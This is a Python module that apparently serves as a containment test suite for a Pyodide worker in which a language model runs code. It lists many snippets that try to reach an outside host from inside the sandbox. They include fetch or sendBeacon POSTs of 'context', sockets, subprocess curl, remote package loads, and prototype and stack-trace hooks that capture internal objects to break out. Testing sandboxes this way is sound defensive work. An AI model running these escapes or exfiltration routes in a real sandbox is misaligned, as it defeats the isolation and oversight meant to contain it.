"""Attacks that try to reach another machine: every API of a worker, by every route to it."""

from __future__ import annotations

from collections.abc import Iterator

from .snippet import Snippet

APIS = {
    "fetch": 'grab("fetch")(URL)',
    "fetch with a body": 'grab("fetch")(URL, to_js({"method": "POST", "mode": "no-cors", "body": context}, '
    'dict_converter=grab("Object").fromEntries))',
    "a Request": 'grab("fetch")(grab("Request").new(URL))',
    "XMLHttpRequest": 'r = grab("XMLHttpRequest").new(); r.open("GET", URL, True); r.send()',
    "a synchronous XMLHttpRequest": 'r = grab("XMLHttpRequest").new(); r.open("GET", URL, False); r.send()',
    "WebSocket": 'keep = grab("WebSocket").new(WS)',
    "WebSocketStream": 'keep = grab("WebSocketStream").new(WS)',
    "EventSource": 'keep = grab("EventSource").new(URL)',
    "importScripts": 'grab("importScripts")(URL)',
    "FontFace": 'grab("FontFace").new("x", f"url({URL})").load()',
    "a font added to the set": 'f = grab("FontFace").new("x", f"url({URL})"); grab("fonts").add(f); f.load()',
    "fonts.load": 'f = grab("FontFace").new("x", f"url({URL})"); grab("fonts").add(f); grab("fonts").load("1px x")',
    "a nested Worker": 'keep = grab("Worker").new(URL)',
    "a nested module Worker": 'O = grab("Object").fromEntries; keep = grab("Worker").new(URL, '
    'to_js({"type": "module"}, dict_converter=O))',
    "a nested Worker that fetches": 'B = grab("Blob").new(to_js([f"fetch(\'{URL}\')"])); '
    'keep = grab("Worker").new(grab("URL").createObjectURL(B))',
    "a Worker of a data URL": 'keep = grab("Worker").new(f"data:text/javascript,fetch(\'{URL}\')")',
    "WebTransport": 'keep = grab("WebTransport").new(URL.replace("http:", "https:"))',
    "import()": "run_js(f\"import('{URL}')\")",
    "import() by setTimeout": 'grab("setTimeout")(f"import(\'{URL}\')", 0)',
    "eval": 'grab("eval")(f"fetch(\'{URL}\')")',
    "Function": 'grab("Function").new(f"fetch(\'{URL}\')")()',
    "an async Function": "to_js([1]).constructor.constructor(f\"import('{URL}')\")()",
    "Response of a stream of fetch": 'grab("fetch")(URL).then(create_once_callable(lambda r: r.text()))',
    "Cache.add": 'grab("caches").open("x").then(create_once_callable(lambda c: c.add(URL)))',
    "ImageDecoder by fetch": 'grab("fetch")(URL).then(create_once_callable(lambda r: grab("createImageBitmap")(r)))',
    "a background fetch": 'grab("navigator").serviceWorker.ready',
    "navigator.sendBeacon": 'grab("navigator").sendBeacon(URL, context)',
    "navigator.serviceWorker": 'grab("navigator").serviceWorker.register(URL)',
    "RTCPeerConnection": 'O = grab("Object").fromEntries; c = grab("RTCPeerConnection").new(to_js({"iceServers": '
    '[{"urls": f"stun:{HOST}:{PORT}"}]}, dict_converter=O)); c.createDataChannel("x"); '
    "c.setLocalDescription(c.createOffer())",
    "SharedWorker": 'keep = grab("SharedWorker").new(URL)',
    "an Image": 'i = grab("Image").new(); i.src = URL',
    "a style sheet": 'l = grab("document").createElement("link"); l.rel = "stylesheet"; l.href = URL; '
    'grab("document").head.append(l)',
    "DNS prefetch": 'l = grab("document").createElement("link"); l.rel = "dns-prefetch"; l.href = URL',
    "a popup": 'grab("open")(URL)',
    "navigation": 'grab("location").href = URL',
    "Reporting API": 'grab("ReportingObserver").new(take_this).observe(); grab("fetch")(URL)',
    "a violation report": 'grab("dispatchEvent")(grab("SecurityPolicyViolationEvent").new("securitypolicyviolation"))',
    "a push subscription": 'grab("registration").pushManager.subscribe()',
    "a presentation": 'grab("PresentationRequest").new(URL).start()',
    "a WebAssembly stream": 'grab("WebAssembly").compileStreaming(grab("fetch")(URL))',
}
CONTROLLED = {
    "fetch", "fetch with a body", "a Request", "XMLHttpRequest", "a synchronous XMLHttpRequest", "WebSocket",
    "WebSocketStream", "EventSource", "FontFace", "a nested Worker that fetches", "a Worker of a data URL", "import()",
    "eval", "Function", "an async Function", "Response of a stream of fetch", "ImageDecoder by fetch",
    "Reporting API", "a WebAssembly stream", "Cache.add", "WebTransport", "a font added to the set", "fonts.load",
}  # fmt: skip

PYTHON = {
    "pyodide.http.open_url": "import pyodide.http; pyodide.http.open_url(URL)",
    "pyodide.http.pyfetch": "import pyodide.http; keep = asyncio.ensure_future(pyodide.http.pyfetch(URL))",
    "pyxhr": "from pyodide.http import pyxhr; pyxhr.get(URL)",
    "pyfetch waited for": "import pyodide.http; run_sync(pyodide.http.pyfetch(URL))",
    "pyfetch stepped by hand": """
        import pyodide.http
        pyodide.http.pyfetch(URL).send(None)
        """,
    "pyodide_js.loadPackage": "run_sync(pyodide_js.loadPackage(URL + '-1.0-py3-none-any.whl'))",
    "pyodide_js.loadPackage by a changed index": """
        pyodide_js._api.config.indexURL = pyodide_js._api.config.packageBaseUrl = URL + "/"
        pyodide_js.loadPackage(URL + "-1.0-py3-none-any.whl")
        """,
    "micropip": "import micropip; run_sync(micropip.install(URL + '-1.0-py3-none-any.whl'))",
    "urllib": "urllib.request.urlopen(URL, timeout=1).read()",
    "urllib, ftp": "urllib.request.urlopen(URL.replace('http', 'ftp'), timeout=1).read()",
    "http.client": "import http.client; c = http.client.HTTPConnection(HOST, PORT, timeout=1); c.request('GET', '/')",
    "a socket": "socket.create_connection((HOST, PORT), 5).sendall(b'x')",
    "a socket without waiting": "s = socket.socket(); s.setblocking(False); s.connect_ex((HOST, PORT))",
    "a datagram": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', (HOST, PORT))",
    "a listening socket": "s = socket.socket(); s.bind(('', PORT)); s.listen(); won('listens') if s.accept() else None",
    "a name lookup": "print(socket.getaddrinfo(f'secret.localhost', PORT))",
    "asyncio connections": """
        async def connect():
            (await asyncio.open_connection(HOST, PORT))[1].write(b"x")
        keep = asyncio.ensure_future(connect())
        """,
    "smtplib": "import smtplib; smtplib.SMTP(HOST, PORT, timeout=1)",
    "xmlrpc": "import xmlrpc.client; xmlrpc.client.ServerProxy(URL).system.listMethods()",
    "a logging handler": """
        import logging.handlers
        logging.handlers.HTTPHandler(f"{HOST}:{PORT}", "/").emit(logging.LogRecord("x", 40, "", 0, context, (), None))
        """,
    "webbrowser": "import webbrowser; webbrowser.open(URL)",
    "a subprocess": "import subprocess; subprocess.run(['curl', URL])",
    "ctypes emscripten_run_script": "ctypes.CDLL(None).emscripten_run_script(f\"fetch('{URL}')\".encode())",
    "ctypes emscripten_async_wget": "ctypes.CDLL(None).emscripten_async_wget(URL.encode(), b'/x', None, None)",
    "ctypes emscripten_fetch": "ctypes.CDLL(None).emscripten_fetch(None, URL.encode())",
    "ctypes emscripten_websocket_new": "ctypes.CDLL(None).emscripten_websocket_new(None)",
    "ctypes PyRun": 'ctypes.pythonapi.PyRun_SimpleString(f"import js; js.fetch({URL!r})".encode())',
    "FS.createLazyFile": """
        pyodide_js.FS.createLazyFile("/", "lazy", URL, True, False)
        open("/lazy").read()
        """,
    "FS.createPreloadedFile": "pyodide_js.FS.createPreloadedFile('/', 'early', URL, True, False)",
    "_module.asyncLoad": "pyodide_js._module.asyncLoad(URL)",
    "_module.loadDynamicLibrary": """
        pyodide_js._module.loadDynamicLibrary(URL, to_js({"loadAsync": True}))
        """,
    "_module.SOCKFS": "pyodide_js._module.SOCKFS.websocket_sock_ops.createPeer(to_js({}), HOST, PORT)",
    "_module.websocket url": """
        pyodide_js._module.websocket = to_js({"url": WS, "subprotocol": "x"})
        socket.create_connection((HOST, PORT), 1)
        """,
    "_api.loadBinaryFile": "pyodide_js._api.loadBinaryFile(URL)",
    "_api.packageManager": "pyodide_js._api.packageManager.downloadPackage(URL)",
    "unpackArchive of a response": "import pyodide.http; pyodide.http.FetchResponse(URL, grab('fetch')(URL))",
}
PYTHON_CONTROLLED = {
    "pyodide.http.open_url", "pyodide.http.pyfetch", "pyxhr", "pyfetch waited for", "pyfetch stepped by hand",
    "pyodide_js.loadPackage", "urllib", "http.client", "a socket", "FS.createLazyFile", "ctypes PyRun",
}  # fmt: skip

ROUTE_FETCH = """
    scope = ROUTES["{route}"]()
    (getattr(scope, "fetch", None) or scope.globalThis.fetch)(URL)
    """
ROUTES = {
    "import js": True,
    "run_js": True,
    "the config": True,
    "the public api": False,
    "the module": False,
    "Function": True,
    "capture_this": False,
    "_module.constructor": True,
    "the prototype of a view": True,
}

HOOKS = {
    "every proxy that gc knows": """
        for found in proxies():
            for name in ("fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "constructor"):
                try:
                    api = getattr(found, name)
                    api.new(URL) if name != "fetch" else api(URL)
                except Exception:
                    pass
        """,
    "all that the proxies lead to": """
        seen, waiting = set(), proxies()
        while waiting and len(seen) < 3000:
            found = waiting.pop()
            if found.js_id in seen:
                continue
            seen.add(found.js_id)
            for name in dir(found)[:200]:
                if name in ("fetch", "XMLHttpRequest", "WebSocket", "importScripts", "EventSource"):
                    try:
                        print(name, "is there")
                        getattr(found, name)(URL)
                    except Exception:
                        pass
                if name.startswith("_") or name in ("constructor", "FS", "config", "globalThis", "self", "window"):
                    try:
                        value = getattr(found, name)
                        waiting += [value] if isinstance(value, JsProxy) else []
                    except Exception:
                        pass
        """,
    "this of a timer": """
        grab("setTimeout")(take_this, 0)
        pyodide_js._api.scheduleCallback(take_this, 0)
        for found in taken:
            if hasattr(found, "fetch"):
                found.fetch(URL)
        """,
    "a hook on Promise": """
        P = grab("Promise").prototype
        def then(this, *rest):
            take(this, *rest)
        P.then = create_proxy(then, capture_this=True)
        llm_query("hook")
        for found in taken:
            if hasattr(found, "fetch"):
                found.fetch(URL)
        """,
    "a hook on typed arrays": """
        prototype = to_js(b"x").constructor.prototype
        def method(this, *rest):
            take(this, *rest)
            return this
        for name in ("subarray", "slice", "set"):
            setattr(prototype, name, create_proxy(method, capture_this=True))
        try:
            llm_query("hook")
        finally:
            for name in ("subarray", "slice", "set"):
                delattr(prototype, name)
        for found in taken:
            if hasattr(found, "postMessage"):
                won("the port")
        """,
    "Error.prepareStackTrace": """
        E = grab("Error")
        def prepare(error, sites):
            for site in sites:
                take(site.getThis(), site.getFunction())
            return ""
        E.prepareStackTrace = create_proxy(prepare)
        try:
            str(E.new("x").stack)
        finally:
            del E.prepareStackTrace
        for found in taken:
            if hasattr(found, "fetch"):
                found.fetch(URL)
        """,
    "a console with a style": """grab("console").log("%cx", f"background: url({URL})")""",
    "a source map": """
        grab("console").error(f"//# sourceMappingURL={URL}")
        run_js(f"1 //# sourceMappingURL={URL}")
        """,
    "wasm that imports": """
        W = grab("WebAssembly")
        W.instantiateStreaming(grab("fetch")(URL), to_js({}))
        """,
}
HOOKS_CONTROLLED = {"every proxy that gc knows", "wasm that imports"}
ALONE = {"a hook on Promise", "a hook on typed arrays", "ctypes emscripten_run_script", "FS.createLazyFile"}
ANY_END = ("final_answer", "worker_lost", "max_errors", "max_seconds")


def _snippets() -> Iterator[Snippet]:
    for name, code in APIS.items():
        yield Snippet(name, "network", code, control=name in CONTROLLED)
    for name, code in PYTHON.items():
        alone = name in ALONE
        ends = ANY_END if alone else ("final_answer",)
        yield Snippet(name, "network", code, control=name in PYTHON_CONTROLLED, alone=alone, ends=ends)
    for route, controlled in ROUTES.items():
        yield Snippet(f"fetch by {route}", "network", ROUTE_FETCH.format(route=route), control=controlled)
    for name, code in HOOKS.items():
        alone = name in ALONE
        ends = ANY_END if alone else ("final_answer",)
        yield Snippet(name, "network", code, control=name in HOOKS_CONTROLLED, alone=alone, ends=ends)


SNIPPETS = tuple(_snippets())
